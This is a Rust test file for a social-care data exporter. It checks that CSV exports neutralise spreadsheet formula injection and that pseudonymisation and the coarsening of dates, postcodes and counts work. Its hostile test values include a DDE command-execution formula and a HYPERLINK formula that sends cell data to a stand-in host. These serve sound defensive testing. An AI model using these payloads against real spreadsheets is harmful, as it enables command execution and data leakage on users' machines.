//! Redaction on export: hostile cell values never reach a spreadsheet as formulas (and
//! come back unchanged through the SSD importer), pseudonyms, coarse dates and postcodes,
//! small counts.

use std::collections::HashMap;

use chrono::NaiveDate;
use patchwork_adapters::redaction::{
    DateGrain, FORMULA_TRIGGERS, PseudonymKey, Redaction, SmallCounts, neutralise_formula,
    postcode_district, restore_formula,
};
use patchwork_adapters::ssd::{ExportOptions, Flavour, SsdOptions, export_tables, import_tables};
use patchwork_core::*;
use proptest::prelude::*;

mod common;

fn d(y: i32, m: u32, day: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, day).unwrap()
}

/// Values a hostile source could put in a name, a team or a job title.
const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\0=1",
    "'=already escaped",
    "''+twice",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
];

/// A network whose texts are hostile: C{i} has HOSTILE[i] as given name and the next one
/// as family name; team T1 and professional W1 have hostile names too.
fn hostile_network() -> Network {
    let src = Source::system("lcs");
    let mut net = Network::new();
    net.add_agency(Agency {
        key: AgencyKey::new("lcs", "council"),
        name: "Wexmoor Council".into(),
        kind: AgencyKind::ChildrensSocialCare,
        ods_code: None,
        school_urn: None,
        source: src.clone(),
    })
    .unwrap();
    net.add_team(Team {
        key: TeamKey::new("lcs", "T1"),
        name: "=team()".into(),
        agency: Some(AgencyKey::new("lcs", "council")),
        parent: None,
        source: src.clone(),
    })
    .unwrap();
    let mut w = Professional::new(ProfessionalKey::new("lcs", "W1"), src.clone());
    w.name = Some("@worker".into());
    w.job_title = Some("-social worker".into());
    w.agency = Some(AgencyKey::new("lcs", "council"));
    net.add_professional(w).unwrap();
    for (i, name) in HOSTILE.iter().enumerate() {
        let mut p = Person::new(
            PersonKey::new("lcs", format!("C{i}")),
            PersonKind::Child,
            src.clone(),
        );
        p.given_name = Some((*name).to_owned());
        p.family_name = Some(HOSTILE[(i + 1) % HOSTILE.len()].to_owned());
        p.birth_date = Some(d(2015, 3, 14));
        p.postcode = Some("SW1A 1AA".into());
        net.add_person(p).unwrap();
        net.add_involvement(Involvement {
            key: InvolvementKey::new("lcs", format!("I{i}")),
            person: PersonKey::new("lcs", format!("C{i}")),
            professional: Some(ProfessionalKey::new("lcs", "W1")),
            team: None,
            role: Role::new("SW", RoleCategory::AllocatedSocialWorker),
            period: Period::from(d(2024, 7, 2)),
            end_reason: None,
            sensitivity: Sensitivity::Standard,
            source: src.clone(),
        })
        .unwrap();
    }
    net
}

/// Every cell of every table, as a spreadsheet would read it.
fn cells(tables: &HashMap<String, Vec<u8>>) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (name, bytes) in tables {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                out.push((name.clone(), cell.to_owned()));
            }
        }
    }
    out
}

/// Cells of one column of one table, in row order.
fn column(tables: &HashMap<String, Vec<u8>>, table: &str, name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(tables[table].as_slice());
    let i = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap().get(i).unwrap().to_owned())
        .collect()
}

fn starts_formula(cell: &str) -> bool {
    cell.starts_with(|c| FORMULA_TRIGGERS.contains(&c))
}

#[test]
fn no_exported_cell_starts_a_formula_and_every_value_comes_back() {
    let net = hostile_network();
    let (tables, summary) = export_tables(&net, &ExportOptions::new(Flavour::Lcs));
    let all = cells(&tables);
    assert!(all.len() > 100);
    for (table, cell) in &all {
        assert!(!starts_formula(cell), "{table}: {cell:?} starts a formula");
    }
    // The hostile names are there, escaped: the given names in person order.
    let given = column(&tables, "ssd_person", "pers_forename");
    let expected: Vec<String> = HOSTILE.iter().map(|h| format!("'{h}")).collect();
    assert_eq!(given, expected);
    // Counted: 10 given and 10 family names; the team's name in the department table;
    // the worker's name and job title (W1 has no team, so no department column).
    assert_eq!(summary.neutralised["ssd_person"], 20);
    assert_eq!(summary.neutralised["ssd_department"], 1);
    assert_eq!(summary.neutralised["ssd_professionals"], 2);

    // The SSD importer reads the originals back.
    let back = import_tables(&tables, &SsdOptions::new(Flavour::Lcs))
        .unwrap()
        .network;
    for (i, name) in HOSTILE.iter().enumerate() {
        let p = back
            .person(&PersonKey::new("lcs", format!("C{i}")))
            .unwrap();
        // The importer trims surrounding white space of what it reads; escaped
        // values are restored after the trim, so even a leading tab survives.
        assert_eq!(p.given_name.as_deref(), Some(*name), "C{i}");
        assert_eq!(
            p.family_name.as_deref(),
            Some(HOSTILE[(i + 1) % HOSTILE.len()]),
            "C{i}"
        );
    }
    assert_eq!(
        back.team(&TeamKey::new("lcs", "T1")).unwrap().name,
        "=team()"
    );
    let w = back
        .professional(&ProfessionalKey::new("lcs", "W1"))
        .unwrap();
    assert_eq!(w.name.as_deref(), Some("@worker"));
    assert_eq!(w.job_title.as_deref(), Some("-social worker"));
}

#[test]
fn redaction_options_cannot_turn_neutralisation_off() {
    let mut options = ExportOptions::new(Flavour::Lcs);
    options.redaction = Redaction {
        pseudonymise: None,
        dates: DateGrain::Year,
        postcode_district: true,
        small_counts: Some(SmallCounts::default()),
    };
    let (tables, _) = export_tables(&hostile_network(), &options);
    for (table, cell) in cells(&tables) {
        assert!(!starts_formula(&cell), "{table}: {cell:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    /// Any cell: the written form never starts a formula, and restoring gives it back.
    #[test]
    fn neutralising_is_safe_and_reversible(cell in "['=+\\-@\t\r\u{0}a-z ]{0,3}.{0,8}") {
        let written = neutralise_formula(&cell);
        prop_assert!(!starts_formula(&written));
        prop_assert_eq!(restore_formula(&written), cell.as_str());
        // A cell that does not start with a trigger or an apostrophe is left alone.
        if !cell.starts_with(|c| FORMULA_TRIGGERS.contains(&c) || c == '\'') {
            prop_assert_eq!(written.as_ref(), cell.as_str());
        }
    }
}

#[test]
fn pseudonyms_are_keyed_hashes_consistent_across_tables() {
    let mut net = hostile_network();
    let mut p = net.person(&PersonKey::new("lcs", "C0")).unwrap().clone();
    p.key = PersonKey::new("lcs", "C99");
    p.nhs_number = Some("9434765919".parse().unwrap());
    net.add_person(p).unwrap();
    let key = PseudonymKey::new(b"0123456789abcdef-secret".to_vec()).unwrap();
    let mut options = ExportOptions::new(Flavour::Lcs);
    options.redaction.pseudonymise = Some(key.clone());
    let (tables, summary) = export_tables(&net, &options);
    assert!(!summary.is_lossless());

    // The pseudonym of C0, worked out from the documented rule: "p" + the first 20 hex
    // digits of HMAC-SHA256(key, "person\0C0").
    let mac = key.hmac(b"person\0C0");
    let expected: String = std::iter::once("p".to_owned())
        .chain(mac[..10].iter().map(|b| format!("{b:02x}")))
        .collect();
    let ids = column(&tables, "ssd_person", "pers_person_id");
    assert_eq!(ids[0], expected);
    // The same pseudonym where the involvement names the child.
    assert_eq!(
        column(&tables, "ssd_involvements", "invo_person_id")[0],
        expected
    );
    // All distinct, none the original.
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), ids.len());
    assert!(!ids.iter().any(|i| i.starts_with('C')));
    // Names left empty; the NHS number nowhere in the files.
    assert!(
        column(&tables, "ssd_person", "pers_forename")
            .iter()
            .all(String::is_empty)
    );
    for bytes in tables.values() {
        assert!(!String::from_utf8_lossy(bytes).contains("9434765919"));
    }
    // Another key, other pseudonyms.
    let mut other = ExportOptions::new(Flavour::Lcs);
    other.redaction.pseudonymise =
        Some(PseudonymKey::new(b"another key, 16+ bytes".to_vec()).unwrap());
    let (tables2, _) = export_tables(&net, &other);
    assert_ne!(
        column(&tables2, "ssd_person", "pers_person_id")[0],
        expected
    );
    // Short keys are refused.
    assert!(PseudonymKey::new(b"short".to_vec()).is_err());
    assert_eq!(format!("{key:?}"), "PseudonymKey(23 bytes)");
}

#[test]
fn dates_and_postcodes_are_coarsened() {
    let net = hostile_network();
    let mut options = ExportOptions::new(Flavour::Lcs);
    options.redaction.dates = DateGrain::Month;
    options.redaction.postcode_district = true;
    let (tables, _) = export_tables(&net, &options);
    assert!(
        column(&tables, "ssd_person", "pers_dob")
            .iter()
            .all(|d| d == "2015-03")
    );
    assert!(
        column(&tables, "ssd_involvements", "invo_involvement_start_date")
            .iter()
            .all(|d| d == "2024-07")
    );
    assert!(
        column(&tables, "ssd_address", "addr_address_postcode")
            .iter()
            .all(|p| p == "SW1A")
    );
    options.redaction.dates = DateGrain::Year;
    let (tables, _) = export_tables(&net, &options);
    assert!(
        column(&tables, "ssd_person", "pers_dob")
            .iter()
            .all(|d| d == "2015")
    );
    for bytes in tables.values() {
        let text = String::from_utf8_lossy(bytes);
        assert!(!text.contains("2015-03-14") && !text.contains("1AA"));
    }
}

#[test]
fn postcode_districts() {
    for (full, district) in [
        ("SW1A 1AA", Some("SW1A")),
        ("sw1a1aa", Some("SW1A")),
        ("M1 1AE", Some("M1")),
        ("B33 8TH", Some("B33")),
        ("CR2 6XH", Some("CR2")),
        ("DN55 1PT", Some("DN55")),
        (" EC1A  1BB ", Some("EC1A")),
        ("not a postcode", None),
        ("=1+1 1AA", None),
        ("1AA", None),
        ("", None),
        ("ZZZZ ZZZ", None),
    ] {
        assert_eq!(postcode_district(full).as_deref(), district, "{full:?}");
    }
}

#[test]
fn small_counts_are_suppressed_and_rounded() {
    let s = SmallCounts::default();
    let got: Vec<String> = [0, 1, 4, 5, 7, 8, 12, 13, 1002]
        .into_iter()
        .map(|n| s.write(n))
        .collect();
    assert_eq!(got, ["0", "c", "c", "5", "5", "10", "10", "15", "1000"]);
    let r = Redaction {
        small_counts: Some(SmallCounts {
            threshold: 10,
            round_to: 1,
        }),
        ..Redaction::default()
    };
    assert_eq!(
        (r.count(9), r.count(10), r.count(11)),
        ("c".into(), "10".into(), "11".into())
    );
    assert_eq!(Redaction::default().count(3), "3");
    assert!(!Redaction::default().is_active());
}

#[test]
fn the_export_command_neutralises_and_redacts() {
    let dir = common::TempDir::new("cli");
    let store = dir.0.join("s.sqlite");
    patchwork_adapters::store::Store::open(&store)
        .unwrap()
        .save(&hostile_network())
        .unwrap();
    let key = dir.0.join("key");
    std::fs::write(&key, b"a secret of more than sixteen bytes").unwrap();
    let run = |extra: &[&str], out: &str| {
        std::process::Command::new(env!("CARGO_BIN_EXE_patchwork"))
            .args(["export", "--format", "ssd", "--store"])
            .arg(&store)
            .arg("--out")
            .arg(dir.0.join(out))
            .args(extra)
            .output()
            .unwrap()
    };
    // Plain: formulas neutralised all the same.
    let out = run(&[], "plain");
    assert!(out.status.success(), "{}", common::stderr(&out));
    assert!(common::stderr(&out).contains("23 cells that would start a spreadsheet formula"));
    let person = std::fs::read_to_string(dir.0.join("plain/ssd_person.csv")).unwrap();
    assert!(person.contains("'=cmd|' /C calc'!A0"));
    // Redacted.
    let out = run(
        &[
            "--pseudonymise-key",
            key.to_str().unwrap(),
            "--coarsen-dates",
            "year",
            "--postcode-district",
        ],
        "redacted",
    );
    assert!(out.status.success(), "{}", common::stderr(&out));
    let person = std::fs::read_to_string(dir.0.join("redacted/ssd_person.csv")).unwrap();
    assert!(!person.contains("C0,") && !person.contains("calc") && person.contains(",2015,"));
    let address = std::fs::read_to_string(dir.0.join("redacted/ssd_address.csv")).unwrap();
    assert!(address.contains(",SW1A") && !address.contains("1AA"));
    // A short key is refused; redaction with JSON is refused.
    std::fs::write(&key, b"short").unwrap();
    let out = run(&["--pseudonymise-key", key.to_str().unwrap()], "short");
    assert_eq!(out.status.code(), Some(1));
    assert!(common::stderr(&out).contains("at least 16 bytes"));
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_patchwork"))
        .args([
            "export",
            "--format",
            "json",
            "--coarsen-dates",
            "year",
            "--store",
        ])
        .arg(&store)
        .arg("--out")
        .arg(dir.0.join("x.json"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(common::stderr(&out).contains("--format ssd only"));
    assert!(!dir.0.join("x.json").exists());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Names starting with any formula trigger (or escaped already) go out neutralised
    /// and come back through the SSD importer exactly.
    #[test]
    fn hostile_names_round_trip_through_the_ssd_files(
        names in proptest::collection::vec("['\\t\\r=+@-]{1,3}[A-Za-z0-9 =+@'-]{0,8}[A-Za-z0-9]", 1..6)
    ) {
        let mut net = Network::new();
        for (i, name) in names.iter().enumerate() {
            let mut p = Person::new(PersonKey::new("lcs", format!("C{i}")), PersonKind::Child, Source::system("lcs"));
            p.given_name = Some(name.clone());
            net.add_person(p).unwrap();
        }
        let (tables, _) = export_tables(&net, &ExportOptions::new(Flavour::Lcs));
        for (table, cell) in cells(&tables) {
            prop_assert!(!starts_formula(&cell), "{}: {:?}", table, cell);
        }
        let back = import_tables(&tables, &SsdOptions::new(Flavour::Lcs)).unwrap().network;
        for (i, name) in names.iter().enumerate() {
            let p = back.person(&PersonKey::new("lcs", format!("C{i}"))).unwrap();
            prop_assert_eq!(p.given_name.as_deref(), Some(name.as_str()));
        }
    }
}
